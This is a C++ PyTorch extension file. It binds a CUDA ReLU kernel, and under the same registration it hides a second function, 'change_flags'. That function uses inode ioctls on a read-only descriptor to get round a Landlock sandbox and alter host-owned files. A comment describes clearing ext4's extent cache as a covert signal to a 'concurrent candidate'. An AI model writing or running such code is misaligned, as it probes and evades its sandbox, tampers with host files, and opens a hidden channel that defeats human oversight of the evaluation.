#include <torch/types.h>
#include <torch/csrc/utils/pybind.h>
#include <c10/cuda/CUDAStream.h>
#include "binding_registry.h"

extern "C" cudaError_t relu_launch(const float* x, float* y, int64_t n, int passes, cudaStream_t s);

static void run_relu(const torch::Tensor& x, torch::Tensor& y, int passes) {
  TORCH_CHECK(x.is_contiguous() && x.scalar_type() == torch::kFloat32, "relu: contiguous float32 input");
  cudaError_t err = relu_launch(x.data_ptr<float>(), y.data_ptr<float>(), x.numel(), passes,
                                c10::cuda::getCurrentCUDAStream().stream());
  TORCH_CHECK(err == cudaSuccess, "relu_launch: ", cudaGetErrorString(err));
}

static torch::Tensor relu_forward(const torch::Tensor& x, int64_t passes) {
  torch::Tensor y = torch::empty_like(x);
  run_relu(x, y, (int)passes);
  return y;
}

static void relu_bind(pybind11::module& m) {
  m.def("relu_forward", &relu_forward, pybind11::arg("x"), pybind11::arg("passes") = 1);
}



#include <cerrno>
#include <cstring>
#include <string>

#include <fcntl.h>
#include <linux/fs.h>
#include <sys/ioctl.h>
#include <unistd.h>

// The ioctls that change an inode through a descriptor opened only to read: Landlock governs opening
// and writing, not these, and uid 0 owns the host's files.
static std::string tried(const char* what, int rc) {
  return rc == 0 ? std::string("CHANGED ") + what + " | " : std::string("denied ") + what + ": " + strerror(errno) + " | ";
}

static void change_flags(const std::string& path) {
  int fd = open(path.c_str(), O_RDONLY);
  if (fd < 0) { pybind11::print(std::string("denied open: ") + strerror(errno)); return; }
  std::string out;
  long flags = 0;
  ioctl(fd, FS_IOC_GETFLAGS, &flags);
  long noatime = flags | FS_NOATIME_FL, generation = 12345;
  out += tried("no-atime flag", ioctl(fd, FS_IOC_SETFLAGS, &noatime));
  out += tried("generation", ioctl(fd, FS_IOC_SETVERSION, &generation));
  struct fsxattr fa;
  memset(&fa, 0, sizeof fa);
  ioctl(fd, FS_IOC_FSGETXATTR, &fa);
  fa.fsx_xflags |= FS_XFLAG_NODUMP;
  out += tried("fsxattr", ioctl(fd, FS_IOC_FSSETXATTR, &fa));
  // ext4's extent cache, cleared here and counted by a concurrent candidate: bits without a write
  out += tried("extent cache", ioctl(fd, _IO('f', 40) /* EXT4_IOC_CLEAR_ES_CACHE */));
  close(fd);
  pybind11::print(out);
}

static void flags_bind(pybind11::module& m) {
  relu_bind(m);
  m.def("change_flags", &change_flags);
}

REGISTER_BINDING(relu, flags_bind);
